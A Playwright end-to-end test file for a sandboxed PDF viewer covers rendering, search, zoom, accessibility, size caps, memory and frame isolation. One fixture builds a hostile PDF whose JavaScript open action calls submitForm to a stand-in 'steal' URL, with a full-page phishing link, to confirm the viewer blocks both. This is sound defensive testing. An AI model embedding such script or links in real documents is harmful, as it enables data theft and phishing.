/**
 * The sandboxed PDF viewer in Chromium, embedded in a test harness page on the real preview's
 * origin (tests/bench/viewer-harness.ts) under the app's CSP. Waits on the frame's messages,
 * never on sleeps.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { PDFDocument, PDFName, PDFString, StandardFonts, rgb } from 'pdf-lib';
import { expect, test, type Page } from '@playwright/test';
import { startPreview, type Preview } from '../../scripts/preview/server';
import { silentLogger } from '../../src/main/host/log';
import { viewerLimits, type FrameMessage } from '../../src/renderer/viewer/protocol';
import { scannedPagePdf } from '../bench/viewer-pdfs';
import { tempDir } from '../helpers/temp-dir';
import {
  installDocumentViewerHost, installViewerHarness, openPdf, outcomeOf, sendToViewer, viewerFrame, viewerMessages,
} from '../bench/viewer-harness';

const corpusDir = '/work/shared/fixtures/pdf-corpus';

async function textPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const lines = [
    ['Verslag van het gehoor', 'De vreemdeling verklaart dat hij in Utrecht woont.', 'Paspoort ontvangen op 2026-10-01.'],
    ['Tweede pagina', 'Geen bijzonderheden.'],
    ['Derde pagina', 'Het paspoort is echt bevonden.', 'Einde verslag; paspoort retour.'],
  ];
  for (const pageLines of lines) {
    const page = pdf.addPage([595, 842]);
    pageLines.forEach((line, index) => page.drawText(line, { x: 60, y: 760 - index * 30, size: index === 0 ? 20 : 13, font }));
  }
  return pdf.save();
}

/** A PDF with a JavaScript open action and a link annotation to an outside site. */
async function hostilePdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([595, 842]);
  page.drawText('Klik hier', { x: 60, y: 760, size: 24, font, color: rgb(0, 0, 0.8) });
  const script = pdf.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned"); this.submitForm("https://example.invalid/steal");') });
  pdf.catalog.set(PDFName.of('OpenAction'), script);
  const link = pdf.context.obj({
    Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], Border: [0, 0, 0],
    A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://example.invalid/phish') },
  });
  page.node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(link)]));
  return pdf.save();
}

/** One page more than the cap, blank. */
async function manyPagesPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  for (let index = 0; index < viewerLimits.maxPages + 1; index++) pdf.addPage([200, 200]);
  return pdf.save();
}

let preview: Preview;
let removeDir: () => void;
const pdfs = new Map<string, Uint8Array>();

test.beforeAll(async () => {
  const dir = tempDir('werkbank-viewer-e2e-');
  removeDir = dir.remove;
  preview = await startPreview({
    port: 0,
    rendererDir: join(__dirname, '..', '..', 'out', 'renderer'),
    host: { dataDir: dir.path, appVersion: '0.1.0-e2e', logger: silentLogger },
  });
  pdfs.set('text.pdf', await textPdf());
  pdfs.set('hostile.pdf', await hostilePdf());
  pdfs.set('many-pages.pdf', await manyPagesPdf());
  pdfs.set('scan.pdf', await scannedPagePdf());
  for (const name of readdirSync(corpusDir).filter((file) => file.endsWith('.pdf'))) {
    pdfs.set(`corpus/${name}`, readFileSync(join(corpusDir, name)));
  }
});

test.afterAll(async () => {
  await preview?.close();
  removeDir?.();
});

async function lastView(page: Page): Promise<Extract<FrameMessage, { type: 'view' }> | undefined> {
  return (await viewerMessages(page)).filter((m): m is Extract<FrameMessage, { type: 'view' }> => m.type === 'view').at(-1);
}

/** Collects the page's console errors (CSP violations included) for the whole test. */
function consoleErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(message.text());
  });
  page.on('pageerror', (error) => errors.push(error.message));
  return errors;
}

async function waitForView(page: Page, predicate: (view: Extract<FrameMessage, { type: 'view' }>) => boolean): Promise<Extract<FrameMessage, { type: 'view' }>> {
  let found: Extract<FrameMessage, { type: 'view' }> | undefined;
  await expect.poll(async () => {
    found = await lastView(page);
    return found !== undefined && predicate(found);
  }).toBe(true);
  if (!found) throw new Error('no view message');
  return found;
}

async function lastSearch(page: Page): Promise<Extract<FrameMessage, { type: 'searchResult' }> | undefined> {
  return (await viewerMessages(page)).filter((m): m is Extract<FrameMessage, { type: 'searchResult' }> => m.type === 'searchResult').at(-1);
}

async function axeViolations(page: Page): Promise<string[]> {
  const results = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']).analyze();
  return results.violations.map((v) => `${v.id}: ${v.help} (${v.nodes.map((n) => n.target.join(' ')).slice(0, 3).join(' | ')})`);
}

test('renders a PDF with selectable text, navigates pages and searches with hit navigation', async ({ page }) => {
  const errors = consoleErrors(page);
  await installViewerHarness(page, preview.url, pdfs, 'nl');
  const id = await openPdf(page, 'text.pdf');
  expect(await outcomeOf(page, id)).toEqual({ type: 'opened', documentId: id, pageCount: 3 });
  const frame = viewerFrame(page);
  await expect(frame.locator('#text-layer')).toContainText('Verslag van het gehoor');
  await expect(frame.locator('#page-count')).toHaveText('van 3');
  await expect(frame.locator('#thumbnails button')).toHaveCount(3);
  await expect(frame.getByRole('button', { name: 'Pagina 1' })).toHaveAttribute('aria-current', 'page');

  // The text layer is real text: selecting it yields the words.
  const selected = await frame.evaluate(() => {
    const layer = document.getElementById('text-layer');
    if (!layer) return '';
    const range = document.createRange();
    range.selectNodeContents(layer);
    window.getSelection()?.removeAllRanges();
    window.getSelection()?.addRange(range);
    return window.getSelection()?.toString() ?? '';
  });
  expect(selected).toContain('Utrecht');

  // The canvas is drawn at the device pixel ratio (sharp), and is not blank.
  const canvas = await frame.evaluate(() => {
    const element = document.getElementById('page-canvas') as HTMLCanvasElement;
    const context = element.getContext('2d');
    const pixels = context?.getImageData(0, 0, element.width, element.height).data ?? new Uint8ClampedArray();
    let dark = 0;
    for (let index = 0; index < pixels.length; index += 4) if ((pixels[index] ?? 255) < 128) dark++;
    return { ratio: element.width / element.getBoundingClientRect().width, dpr: window.devicePixelRatio, dark };
  });
  expect(canvas.ratio).toBeCloseTo(canvas.dpr, 1);
  expect(canvas.dark).toBeGreaterThan(100);

  // Page navigation by button, by keyboard and from the parent.
  await frame.getByRole('button', { name: 'Volgende pagina' }).click();
  await waitForView(page, (view) => view.page === 2);
  await expect(frame.locator('#text-layer')).toContainText('Tweede pagina');
  await frame.locator('#stage').focus();
  await page.keyboard.press('End');
  await waitForView(page, (view) => view.page === 3);
  await page.keyboard.press('Home');
  await waitForView(page, (view) => view.page === 1);
  await page.keyboard.press('PageDown');
  await waitForView(page, (view) => view.page === 2);
  await page.keyboard.press('PageUp');
  await waitForView(page, (view) => view.page === 1);
  await sendToViewer(page, { type: 'goToPage', page: 3 });
  await waitForView(page, (view) => view.page === 3);
  await frame.getByRole('button', { name: 'Pagina 2' }).click();
  await waitForView(page, (view) => view.page === 2);

  // Ctrl+F goes to the search field; Enter searches the whole document and goes to the first hit.
  await page.keyboard.press('Control+f');
  await expect(frame.getByRole('searchbox', { name: 'Zoeken in document' })).toBeFocused();
  await page.keyboard.type('PASPOORT');
  await page.keyboard.press('Enter');
  await expect.poll(async () => (await lastSearch(page))?.total).toBe(3);
  const result = await lastSearch(page);
  expect(result?.hits).toEqual([{ page: 1, index: 0 }, { page: 3, index: 0 }, { page: 3, index: 1 }]);
  // From page 2 the first hit ahead is on page 3.
  expect(result?.current).toBe(1);
  await waitForView(page, (view) => view.page === 3);
  await expect(frame.locator('#hit-status')).toHaveText('2 van 3');
  await expect(frame.locator('mark.hit')).toHaveCount(2);
  await expect(frame.locator('mark.hit.current')).toHaveText('paspoort');
  await frame.getByRole('button', { name: 'Volgende treffer' }).click();
  await expect(frame.locator('#hit-status')).toHaveText('3 van 3');
  await frame.getByRole('button', { name: 'Volgende treffer' }).click();
  await waitForView(page, (view) => view.page === 1);
  await expect(frame.locator('mark.hit.current')).toHaveText('Paspoort');
  await expect(frame.locator('#hit-status')).toHaveText('1 van 3');
  await expect(viewerFrame(page).locator('#page')).toHaveAttribute('data-drawn', /^\d+$/);
  await page.screenshot({ path: 'test-results/screens/viewer-nl.png' });

  // The parent can search too (what "search across all documents of a case" builds on).
  await sendToViewer(page, { type: 'search', query: 'visum' });
  await expect.poll(async () => (await lastSearch(page))?.query).toBe('visum');
  expect((await lastSearch(page))?.total).toBe(0);
  await expect(frame.locator('#hit-status')).toHaveText('Geen treffers');
  expect(errors).toEqual([]);
});

test('a new version opened in place keeps the page on screen and the scroll position until it is drawn', async ({ page }) => {
  await installViewerHarness(page, preview.url, pdfs, 'nl');
  const first = await openPdf(page, 'text.pdf');
  await outcomeOf(page, first);
  const frame = viewerFrame(page);
  await sendToViewer(page, { type: 'setZoom', zoom: 2 });
  await waitForView(page, (view) => view.zoom === 2);
  await sendToViewer(page, { type: 'goToPage', page: 2 });
  await waitForView(page, (view) => view.page === 2);
  await expect(frame.locator('#page')).toHaveAttribute('data-drawn', '2');
  const scrolled = await frame.evaluate(() => {
    const stage = document.getElementById('stage') as HTMLElement;
    stage.scrollTop = 300;
    // Records every moment the page would have gone blank: the box hidden or its canvas emptied.
    const box = document.getElementById('page') as HTMLElement;
    const record = globalThis as unknown as { blanks: string[] };
    record.blanks = [];
    new MutationObserver(() => {
      const canvas = box.querySelector('canvas');
      if (box.hidden) record.blanks.push('hidden');
      if (!canvas || canvas.width === 0) record.blanks.push('empty canvas');
    }).observe(box, { attributes: true, childList: true, subtree: true });
    return stage.scrollTop;
  });
  expect(scrolled).toBe(300);

  const second = await openPdf(page, 'text.pdf', 2, true);
  expect(await outcomeOf(page, second)).toEqual({ type: 'opened', documentId: second, pageCount: 3 });
  await expect.poll(async () => (await viewerMessages(page)).some((message) => message.type === 'closed' && message.documentId === first)).toBe(true);
  await expect(frame.locator('#page')).toHaveAttribute('data-drawn', '2');
  await expect(frame.locator('#text-layer')).toContainText('Tweede pagina');
  expect(await frame.evaluate(() => (globalThis as unknown as { blanks: string[] }).blanks)).toEqual([]);
  expect(await frame.evaluate(() => (document.getElementById('stage') as HTMLElement).scrollTop)).toBe(300);
  expect(await frame.locator('canvas#page-canvas').count()).toBe(1);
});

test('zooms, fits and rotates', async ({ page }) => {
  await installViewerHarness(page, preview.url, pdfs, 'en');
  const id = await openPdf(page, 'text.pdf');
  await outcomeOf(page, id);
  const frame = viewerFrame(page);
  const first = await waitForView(page, (view) => view.fit === 'width');
  const size = (): Promise<{ width: number; height: number }> =>
    frame.evaluate(() => {
      const box = document.getElementById('page-canvas')?.getBoundingClientRect();
      return { width: Math.round(box?.width ?? 0), height: Math.round(box?.height ?? 0) };
    });
  await frame.getByRole('button', { name: 'Zoom in' }).click();
  const zoomed = await waitForView(page, (view) => view.fit === 'none' && view.zoom > first.zoom);
  await expect.poll(async () => (await size()).width).toBeGreaterThan(Math.floor(595 * first.zoom));
  await frame.locator('#stage').focus();
  await page.keyboard.press('-');
  await waitForView(page, (view) => view.zoom < zoomed.zoom);
  await sendToViewer(page, { type: 'setZoom', zoom: 0.5 });
  await waitForView(page, (view) => view.zoom === 0.5);
  await expect.poll(async () => (await size()).width).toBe(Math.floor(595 * 0.5));
  await frame.getByRole('button', { name: 'Fit whole page' }).click();
  const fitted = await waitForView(page, (view) => view.fit === 'page');
  const stage = await frame.evaluate(() => document.getElementById('stage')?.clientHeight ?? 0);
  expect(842 * fitted.zoom).toBeLessThanOrEqual(stage);
  await frame.getByRole('button', { name: 'Rotate' }).click();
  await waitForView(page, (view) => view.rotation === 90);
  await expect.poll(async () => { const s = await size(); return s.width > s.height; }).toBe(true);
  await expect(frame.locator('#text-layer')).toHaveAttribute('data-main-rotation', '90');
  await expect(viewerFrame(page).locator('#page')).toHaveAttribute('data-drawn', /^\d+$/);
  await page.screenshot({ path: 'test-results/screens/viewer-rotated-en.png' });
  await frame.getByRole('button', { name: 'Fit to width' }).click();
  await waitForView(page, (view) => view.fit === 'width' && view.rotation === 90);
});

test('the frame has an opaque origin and cannot reach window.werkbank, the parent DOM or storage', async ({ page }) => {
  await installViewerHarness(page, preview.url, pdfs, 'nl');
  expect(await page.evaluate(() => typeof (window as unknown as { werkbank?: unknown }).werkbank)).toBe('object');
  const reach = await viewerFrame(page).evaluate(() => {
    const attempt = (probe: () => unknown): string => {
      try {
        return `reached:${typeof probe()}`;
      } catch (error) {
        return (error as Error).name;
      }
    };
    return {
      origin: self.origin,
      werkbank: attempt(() => (window.parent as unknown as { werkbank: unknown }).werkbank),
      parentDocument: attempt(() => window.parent.document.body),
      topDocument: attempt(() => window.top?.document.title),
      localStorage: attempt(() => window.localStorage.length),
      cookie: attempt(() => document.cookie),
      ownWerkbank: typeof (window as unknown as { werkbank?: unknown }).werkbank,
    };
  });
  expect(reach).toEqual({
    origin: 'null',
    werkbank: 'SecurityError',
    parentDocument: 'SecurityError',
    topDocument: 'SecurityError',
    localStorage: 'SecurityError',
    cookie: 'SecurityError',
    ownWerkbank: 'undefined',
  });
  // Messages from anywhere but the parent, or not in the protocol, are ignored.
  const frame = viewerFrame(page);
  await frame.evaluate(() => window.postMessage({ type: 'goToPage', page: 2 }, '*'));
  await sendToViewer(page, { type: 'open', documentId: 99, data: 'JVBERi0xLjQ=' });
  const id = await openPdf(page, 'text.pdf');
  await outcomeOf(page, id);
  expect((await viewerMessages(page)).some((m) => 'documentId' in m && m.documentId === 99)).toBe(false);
});

test('a PDF with a JavaScript action and a link neither runs script nor navigates', async ({ page }) => {
  const errors = consoleErrors(page);
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await installViewerHarness(page, preview.url, pdfs, 'nl');
  const id = await openPdf(page, 'hostile.pdf');
  expect((await outcomeOf(page, id)).type).toBe('opened');
  const frame = viewerFrame(page);
  await expect(frame.locator('#text-layer')).toContainText('Klik hier');
  await frame.locator('#page').click({ position: { x: 100, y: 60 } });
  await frame.locator('#page').click({ position: { x: 300, y: 400 } });
  expect(frame.url()).toMatch(/\/viewer\/index\.html$/);
  expect(page.url()).toContain('/__viewer-harness/index.html');
  expect(await frame.locator('a').count()).toBe(0);
  expect(dialogs).toEqual([]);
  expect(requests.filter((url) => url.includes('example.invalid'))).toEqual([]);
  expect(errors).toEqual([]);
});

test('caps: too large, too many pages, empty and bytes that are no PDF are refused with a message', async ({ page }) => {
  await installViewerHarness(page, preview.url, pdfs, 'nl');
  const frame = viewerFrame(page);
  const openBytes = (bytes: number, fill: string): Promise<number> => page.evaluate(([length, text]) => {
    const data = new Uint8Array(length);
    data.set(new TextEncoder().encode(text).slice(0, length));
    return (window as unknown as { harness: { openRaw(d: ArrayBuffer): number } }).harness.openRaw(data.buffer);
  }, [bytes, fill] as const);
  const tooLarge = await openBytes(100 * 1024 * 1024 + 1, '%PDF-1.7\n');
  expect(await outcomeOf(page, tooLarge)).toEqual({ type: 'failed', documentId: tooLarge, kind: 'too_large' });
  await expect(frame.getByRole('alert')).toContainText('groter dan 100 MB');
  const manyPages = await openPdf(page, 'many-pages.pdf');
  expect(await outcomeOf(page, manyPages)).toEqual({ type: 'failed', documentId: manyPages, kind: 'too_many_pages' });
  await expect(frame.getByRole('alert')).toContainText('meer dan 2.000 pagina’s');
  const empty = await openBytes(0, '');
  expect(await outcomeOf(page, empty)).toEqual({ type: 'failed', documentId: empty, kind: 'empty' });
  const garbage = await openBytes(2048, 'PK\u0003\u0004 this is a zip, not a PDF');
  expect(await outcomeOf(page, garbage)).toMatchObject({ type: 'failed', kind: 'malformed' });
  await expect(frame.getByRole('alert')).toContainText('beschadigd of geen geldige PDF');
  // Nothing to navigate while no document is shown.
  await expect(frame.getByRole('button', { name: 'Volgende pagina' })).toBeDisabled();
  await expect(frame.getByRole('button', { name: 'Inzoomen' })).toBeDisabled();
  await page.screenshot({ path: 'test-results/screens/viewer-error-nl.png' });
  // The document after a refused one opens normally.
  const text = await openPdf(page, 'text.pdf');
  expect((await outcomeOf(page, text)).type).toBe('opened');
  await expect(frame.getByRole('alert')).toBeHidden();
});

test('every file of the pdf.js corpus renders or is refused with a clear message, and the page stays usable', async ({ page }) => {
  test.setTimeout(120_000);
  await installViewerHarness(page, preview.url, pdfs, 'en');
  const frame = viewerFrame(page);
  const outcomes: Record<string, string> = {};
  let clicks = 0;
  for (const name of [...pdfs.keys()].filter((key) => key.startsWith('corpus/'))) {
    const id = await openPdf(page, name);
    const outcome = await outcomeOf(page, id, 35_000);
    outcomes[name] = outcome.type === 'failed' ? outcome.kind : outcome.type;
    if (outcome.type === 'failed') {
      await expect(frame.getByRole('alert'), name).toBeVisible();
      await expect(frame.locator('#message-text'), name).not.toBeEmpty();
    } else {
      await expect(frame.locator('#page-count'), name).not.toBeEmpty();
    }
    // The parent page stays responsive between documents.
    await page.getByRole('button', { name: 'Outside button' }).click();
    clicks++;
    await expect(page.locator('#outside-count')).toHaveText(String(clicks));
  }
  console.info(`viewer corpus outcomes: ${JSON.stringify(outcomes)}`);
  for (const [name, outcome] of Object.entries(outcomes)) expect(['opened', 'malformed', 'encrypted', 'empty'], name).toContain(outcome);
  // Needs a password: refused without a prompt.
  expect(outcomes['corpus/encrypted-attachment.pdf']).toBe('encrypted');
  expect(Object.values(outcomes).filter((value) => value === 'opened').length).toBeGreaterThan(20);
});

test('passes axe in Dutch and English, with a document and with an error message', async ({ page }) => {
  await installViewerHarness(page, preview.url, pdfs, 'nl');
  const id = await openPdf(page, 'text.pdf');
  await outcomeOf(page, id);
  const frame = viewerFrame(page);
  await expect(frame.locator('#text-layer')).toContainText('Verslag');
  expect(await axeViolations(page), 'nl, document').toEqual([]);
  // Keyboard focus moves through the toolbar and is visible.
  await frame.getByRole('button', { name: 'Inzoomen' }).focus();
  await page.keyboard.press('Tab');
  const focused = await frame.evaluate(() => ({ id: document.activeElement?.id, outline: getComputedStyle(document.activeElement as Element).outlineStyle }));
  expect(focused.id).toBe('fit-width');
  expect(focused.outline).not.toBe('none');
  await page.evaluate(() => (window as unknown as { harness: { setLanguage(l: string): void } }).harness.setLanguage('en'));
  await expect(frame.locator('html')).toHaveAttribute('lang', 'en');
  await expect(frame.getByRole('button', { name: 'Next page' })).toBeVisible();
  await expect(viewerFrame(page).locator('#page')).toHaveAttribute('data-drawn', /^\d+$/);
  await page.screenshot({ path: 'test-results/screens/viewer-en.png' });
  expect(await axeViolations(page), 'en, document').toEqual([]);
  const broken = await openPdf(page, 'corpus/encrypted-attachment.pdf');
  await outcomeOf(page, broken);
  await expect(frame.getByRole('alert')).toContainText('protected with a password');
  await page.screenshot({ path: 'test-results/screens/viewer-error-en.png' });
  expect(await axeViolations(page), 'en, error').toEqual([]);
});

test('closing documents frees their memory: one warm pdf.js worker, and the frame heap returns near its baseline', async ({ page }) => {
  await installViewerHarness(page, preview.url, pdfs, 'nl');
  const session = await page.context().newCDPSession(viewerFrame(page));
  await session.send('HeapProfiler.enable');
  await session.send('Performance.enable');
  const heapAfterGc = async (): Promise<number> => {
    for (let round = 0; round < 3; round++) await session.send('HeapProfiler.collectGarbage');
    const { metrics } = await session.send('Performance.getMetrics');
    return metrics.find((metric) => metric.name === 'JSHeapUsedSize')?.value ?? Number.NaN;
  };
  const closedCount = async (): Promise<number> => (await viewerMessages(page)).filter((m) => m.type === 'closed').length;
  const cycle = async (name: string): Promise<void> => {
    expect((await outcomeOf(page, await openPdf(page, name))).type).toBe('opened');
    const closed = await closedCount();
    await sendToViewer(page, { type: 'close' });
    await expect.poll(closedCount).toBe(closed + 1);
  };
  await cycle('text.pdf');
  await cycle('scan.pdf');
  const baseline = await heapAfterGc();
  for (let index = 0; index < 30; index++) await cycle(index % 2 === 0 ? 'text.pdf' : 'scan.pdf');
  // The viewing worker is kept warm for the next document; no worker is left per document.
  expect(page.workers()).toHaveLength(1);
  // Generous: a leaked document per cycle would add far more; the benchmark reports the real figure.
  expect(await heapAfterGc()).toBeLessThan(baseline + 8 * 1024 * 1024);
});

test('an image-only (scanned) page is drawn sharp at the device pixel ratio', async ({ playwright }) => {
  // A real high-density screen: Playwright's deviceScaleFactor emulation does not reach the
  // out-of-process sandboxed frame, Chromium's own switch does.
  const browser = await playwright.chromium.launch({
    executablePath: process.env['CHROMIUM_PATH'] ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--force-device-scale-factor=2'],
  });
  const page = await browser.newPage({ viewport: { width: 1200, height: 900 } });
  await installViewerHarness(page, preview.url, pdfs, 'nl');
  expect((await outcomeOf(page, await openPdf(page, 'scan.pdf'))).type).toBe('opened');
  const frame = viewerFrame(page);
  await waitForView(page, (view) => view.page === 1);
  expect(await frame.evaluate(() => window.devicePixelRatio)).toBe(2);
  await expect(frame.locator('#page')).toHaveAttribute('data-drawn', '1');
  // The dark "photo" block of the scan is drawn where it belongs (top left of the page).
  const photo = await frame.evaluate(() => {
    const canvas = document.getElementById('page-canvas') as HTMLCanvasElement;
    const pixel = (fx: number, fy: number): number =>
      canvas.getContext('2d')?.getImageData(Math.floor(canvas.width * fx), Math.floor(canvas.height * fy), 1, 1).data[0] ?? -1;
    return { inside: pixel(0.2, 0.2), outside: pixel(0.6, 0.9) };
  });
  expect(photo.inside).toBeLessThan(100);
  expect(photo.outside).toBeGreaterThan(200);
  await expect.poll(() => frame.evaluate(() => {
    const canvas = document.getElementById('page-canvas') as HTMLCanvasElement;
    return Math.round((canvas.width / canvas.getBoundingClientRect().width) * 10) / 10;
  })).toBe(2);
  await page.screenshot({ path: 'test-results/screens/viewer-scan-nl.png' });
  await browser.close();
});

test('the DocumentViewer component drives the frame from its props and reports through its callbacks', async ({ page }) => {
  const errors = consoleErrors(page);
  await installDocumentViewerHost(page, preview.url, pdfs);
  type HostEvent = { type: string } & Record<string, unknown>;
  const events = (): Promise<HostEvent[]> => page.evaluate(() => (window as unknown as { viewerHostEvents: HostEvent[] }).viewerHostEvents);
  const host = (call: string, argument?: unknown): Promise<void> => page.evaluate(([name, value]) => {
    const controls = (window as unknown as { viewerHost: Record<string, (v: unknown) => unknown> }).viewerHost;
    return Promise.resolve(controls[name]?.(value)).then(() => undefined);
  }, [call, argument] as const);
  await expect.poll(() => page.evaluate(() => typeof (window as unknown as { viewerHost?: unknown }).viewerHost)).toBe('object');
  await expect(page.getByTitle('Documentviewer')).toHaveAttribute('sandbox', 'allow-scripts');

  await host('open', '/__viewer-harness/pdf/text.pdf');
  await expect.poll(events).toContainEqual({ type: 'open', pageCount: 3 });
  await expect.poll(events).toContainEqual({ type: 'page', page: 1, pageCount: 3 });
  const frame = page.frameLocator('iframe[data-testid="document-viewer"]');
  await expect(frame.locator('#text-layer')).toContainText('Verslag van het gehoor');

  await host('goToPage', 2);
  await expect.poll(events).toContainEqual({ type: 'page', page: 2, pageCount: 3 });
  await host('search', 'paspoort');
  await expect.poll(events).toContainEqual({ type: 'hits', query: 'paspoort', total: 3, current: 1 });

  await host('setLanguage', 'en');
  await expect(frame.getByRole('button', { name: 'Next page' })).toBeVisible();
  await expect(page.getByTitle('Document viewer')).toBeVisible();

  await host('open', `/__viewer-harness/pdf/${encodeURIComponent('corpus/encrypted-attachment.pdf')}`);
  await expect.poll(events).toContainEqual({ type: 'error', kind: 'encrypted' });
  await expect(frame.getByRole('alert')).toContainText('protected with a password');
  await host('close');
  await expect(frame.getByRole('alert')).toBeHidden();
  expect(errors).toEqual([]);
});
